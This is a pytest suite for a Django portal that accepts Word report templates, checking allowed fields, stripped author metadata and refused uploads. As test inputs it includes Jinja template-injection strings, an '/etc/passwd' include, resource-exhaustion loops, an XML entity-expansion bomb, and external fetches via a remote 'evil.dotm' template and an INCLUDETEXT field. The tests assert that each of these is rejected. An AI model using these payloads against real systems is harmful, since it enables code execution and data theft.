"""Word templates of the department: fields, what is refused, and that nothing hostile gets through."""

import io
import re
import zipfile

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext

from archiveportal.accounts.scope import EVERYTHING
from archiveportal.files.models import StoredFile
from archiveportal.history.models import Event
from archiveportal.refusal import Refused
from criteria.inspections.models import Round
from reports.documents import report_file
from reports.documents.fields import FIELDS
from reports.documents.own import MADE_AT, make_own_template, own_template
from reports.models import DocumentTemplate, ReportKind
from reports.passages.services import write_passage
from reports.word_templates.services import take_template, withdraw_template
from tests.support.agency import AGENCY
from tests.support.papers import footnotes, opened, words
from training.models import Scheme

PARTS = [field.name for field in FIELDS[ReportKind.SCHEME] if field.is_part]


def template(*lines: str, parts=PARTS, bare: bool = False) -> bytes:
    """A template of a scheme's report; a bare one has no styles of headings and tables."""
    document = docx.Document()
    if bare:
        for name in ("Heading 1", "Heading 2", "Table Grid"):
            document.styles[name].delete()
    for line in lines:
        document.add_paragraph(line)
    for part in parts:
        document.add_paragraph(f"{{{{ {part} }}}}")
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def with_part(content: bytes, name: str, text: str) -> bytes:
    """The file with one part more, or another in its place."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as target:
        for each in source.namelist():
            if each != name:
                target.writestr(each, source.read(each))
        target.writestr(name, text)
    return made.getvalue()


def upload(content: bytes, name: str = "mau.docx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def take(cast, content: bytes, kind=ReportKind.SCHEME, *, name: str = "mau.docx", by=None) -> DocumentTemplate:
    return take_template(kind=kind, upload=upload(content, name), by=by or cast.approver)


def of_scheme() -> bytes:
    return report_file(user=EVERYTHING, subject=Scheme.objects.get(), made_at=MADE_AT)


@pytest.mark.parametrize("kind", ReportKind)
def test_the_portals_own_template_is_what_its_writer_makes(kind):
    assert own_template(kind) == make_own_template(kind)


@pytest.mark.parametrize("kind", ReportKind)
def test_the_portals_own_template_can_be_handed_in(cast, kind):
    take(cast, own_template(kind), kind)


def test_the_departments_template_is_used_and_withdrawn_again(cast):
    before = of_scheme()
    taken = take(cast, template("Mẫu riêng của Sở: {{ ten_de_an }} / {{ so_ky_hieu }}"))
    text = words(of_scheme())
    assert text.startswith("Mẫu riêng của Sở: Đề án nâng cao năng lực") and "/ Số: ………/BC-SNV\nDỰ THẢO\n" in text
    assert "đạt 47,67% so với chỉ tiêu là 86 người" in text and footnotes(of_scheme()) == footnotes(before)
    withdraw_template(template=taken, by=cast.approver)
    withdraw_template(template=taken, by=cast.approver)
    assert of_scheme() == before
    found = Event.objects.filter(object_type="reports.documenttemplate", object_id=taken.pk)
    assert list(found.order_by("pk").values_list("action", flat=True)) == ["created", "voided"]
    made = found.get(action="created")
    assert made.changes == {"file": [None, f"mau.docx (SHA-256 {taken.file.sha256})"]} and not made.reason
    assert [change["field"] for change in made.readable_changes] == [gettext("file")]


def test_a_second_press_on_withdraw_says_nothing(cast, sign_in):
    taken = take(cast, template())
    client, address = sign_in(cast.approver), reverse("reports:template-withdraw", args=[taken.pk])
    said = [list(client.post(address, follow=True).context["messages"]) for _press in range(2)]
    assert [len(messages) for messages in said] == [1, 0]


def test_a_newer_template_takes_the_place_of_the_older_one(cast):
    take(cast, template("Mẫu một"))
    take(cast, template("Mẫu hai"))
    assert words(of_scheme()).startswith("DỰ THẢO\nMẫu hai")
    assert DocumentTemplate.objects.filter(withdrawn_at=None).count() == 1


def test_the_same_file_twice_is_one_template(cast):
    content = template()
    take(cast, content)
    with pytest.raises(Refused):
        take(cast, content)
    assert DocumentTemplate.objects.count() == 1 and StoredFile.objects.count() == 1


def test_a_template_without_the_styles_that_parts_need(cast):
    take(cast, template(bare=True))
    text = words(of_scheme())
    assert "I. KẾT QUẢ TRIỂN KHAI THỰC HIỆN" in text


def test_a_template_brings_no_name_of_its_author_into_the_report(cast):
    document = docx.Document(io.BytesIO(template()))
    about = document.core_properties
    about.author = about.last_modified_by = about.comments = about.keywords = "Người lạ"
    about.last_printed = MADE_AT
    made = io.BytesIO()
    document.save(made)
    company = "<Properties><Manager>Người lạ</Manager><Company>Người lạ</Company></Properties>"
    take(cast, with_part(made.getvalue(), "docProps/app.xml", company))
    report = of_scheme()
    with zipfile.ZipFile(io.BytesIO(report)) as archive:
        properties = [archive.read(name).decode() for name in archive.namelist() if name.startswith("docProps/")]
    assert len(properties) == 2 and not any("Người lạ" in text or "lastPrinted" in text for text in properties)
    about = docx.Document(io.BytesIO(report)).core_properties
    assert (about.author, about.last_modified_by) == (AGENCY, AGENCY)
    assert about.title.startswith("Tổng kết thực hiện Đề án")


def test_fields_in_headers_and_tables_and_conditions(cast):
    document = docx.Document(io.BytesIO(template()))
    document.sections[0].header.paragraphs[0].text = "{{ so_ky_hieu }}"
    document.add_table(1, 1).cell(0, 0).text = "{% if nguoi_ky %}có{% endif %}{{ kinh_gui }}"
    made = io.BytesIO()
    document.save(made)
    take(cast, made.getvalue())
    found = opened(of_scheme())
    assert found.sections[0].header.paragraphs[0].text == "Số: ………/BC-SNV"
    assert found.paragraphs[0].text == "DỰ THẢO"
    assert found.tables[-1].cell(0, 0).text == "Ủy ban nhân dân Thành phố"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (template("{{ tong_so_tien }}"), "unknown_field"),
        (template("Số: 5355 /BC-SNV"), "own_number"),
        (template("Thành phố Hồ Chí Minh, ngày 30 tháng 12 năm 2019"), "own_number"),
        (template("{{ mo_dau }} lần nữa"), "not_alone"),
        (template("{{ mo_dau }}"), "not_alone"),
        (template(parts=PARTS[:-1]), "missing_part"),
        (template(parts=[]), "missing_part"),
        (template("{{ ten_de_an.__class__.__mro__ }}"), "not_a_field"),
        (template("{{ ''.__class__ }}"), "not_a_field"),
        (template("{{ ten_de_an|upper }}"), "not_a_field"),
        (template("{{ ten_de_an() }}"), "not_a_field"),
        (template("{{ 9**9**9 }}"), "not_a_field"),
        (template("{{ self }}"), "unknown_field"),
        (template("{{ cycler.__init__.__globals__ }}"), "not_a_field"),
        (template("{% for i in range(10**9) %}{% for j in range(10**9) %}x{% endfor %}{% endfor %}"), "not_a_field"),
        (template("{% set ten_de_an = 'khác' %}"), "not_a_field"),
        (template("{% include '/etc/passwd' %}"), "not_a_field"),
        (template("{% macro x() %}{% endmacro %}"), "not_a_field"),
        (template("{{ ten_de_an"), "syntax"),
        (template("{% if ten_de_an %}"), "syntax"),
        (b"", "no_document"),
        (b"%PDF-1.4 khong phai Word", "no_document"),
        (b"PK\x03\x04 hong", "no_document"),
        (with_part(template(), "word/document.xml", "<w:document"), "no_document"),
        (with_part(template(), "word/vbaProject.bin", "macro"), "objects"),
        (with_part(template(), "word/embeddings/oleObject1.bin", "x"), "objects"),
        (with_part(template(), "word/theme/big.xml", "x" * 2_000_000), "too_large"),
        (
            with_part(
                template(),
                "word/_rels/settings.xml.rels",
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
                'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                'Target="http://example.com/evil.dotm" TargetMode="External"/></Relationships>',
            ),
            "external",
        ),
        (
            with_part(
                template(),
                "word/document.xml",
                '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:document xmlns:w="http://schemas.openxmlformats'
                '.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>',
            ),
            "external",
        ),
    ],
)  # fmt: skip
def test_what_is_refused_and_why(cast, content, code):
    with pytest.raises(Refused) as caught:
        take(cast, content)
    assert caught.value.code == code
    assert not DocumentTemplate.objects.exists() and not StoredFile.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["{{ten_de_an\u200b}}", "{{\u00a0ten_de_an\ufeff }}", "{{ t\u0435n_de_an }}"])
def test_what_nobody_sees_in_a_field_does_no_harm(cast, field):
    """The third has a Cyrillic е, as it comes along from some web pages."""
    assert take(cast, template(field))


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["{{ ten de an }}", "{{ ten_de_an! }}", "{{ ten_de_an | }}"])
def test_a_field_that_is_not_written_right_is_named_in_its_own_words(cast, field):
    with translation.override("vi"), pytest.raises(Refused) as refused:
        take(cast, template("Một dòng", field))
    assert field in refused.value.message
    assert not re.search(r"unexpected|expected|line \d|at \d", refused.value.message)


def test_a_field_code_that_fetches_is_refused(cast):
    document = docx.Document(io.BytesIO(template()))
    run = document.add_paragraph().add_run()
    code = docx.oxml.OxmlElement("w:instrText")
    code.text = ' INCLUDETEXT "http://example.com/x.docx" '
    run._r.append(code)
    made = io.BytesIO()
    document.save(made)
    with pytest.raises(Refused) as caught:
        take(cast, made.getvalue())
    assert caught.value.code == "external"


def test_the_unknown_field_is_named_on_the_page(cast, sign_in):
    client, address = sign_in(cast.approver), reverse("reports:templates")
    page = client.post(address, {"kind": "de-an", "de-an-upload": upload(template("{{ tong_so_tien }}"))})
    assert page.status_code == 200 and "tong_so_tien" in page.content.decode()
    assert "{{ ten_de_an }}" in page.content.decode()
    assert client.post(address, {"kind": "de-an"}).context["kinds"][1][3].errors["upload"]
    assert client.post(address, {"kind": "de-an", "de-an-upload": upload(template())}).status_code == 302
    page = client.get(address).content.decode()
    assert reverse("reports:template-file", args=[DocumentTemplate.objects.get().pk]) in page


def test_the_file_comes_back_as_it_was(cast, sign_in):
    content = template()
    taken = take(cast, content)
    response = sign_in(cast.approver).get(reverse("reports:template-file", args=[taken.pk]))
    assert b"".join(response.streaming_content) == content and "attachment" in response["Content-Disposition"]


def test_only_approvers_change_templates(cast):
    for person in (cast.inspector, cast.leader, cast.administrator, cast.quan10):
        with pytest.raises(Refused):
            take(cast, template(), by=person)


def test_a_template_that_was_lost_does_not_stop_the_report(cast):
    before = of_scheme()
    taken = take(cast, template("Mẫu riêng"))
    taken.file.original.delete(save=False)
    assert of_scheme() == before


@pytest.mark.parametrize("text", ["{{ 7*7 }} {% for x in y %}", "⟦phu_luc⟧", "mo_dau;", "a & b < c > \"d\" 'e' =1+1"])
def test_words_of_people_are_never_fields(cast, text):
    subject = Round.objects.get(code="gd1-2019")
    for key in ("subject", "opening", "limits"):
        write_passage(subject=subject, key=key, text=text, seen=1, by=cast.approver)
    assert words(report_file(user=EVERYTHING, subject=subject)).count(text) >= 3
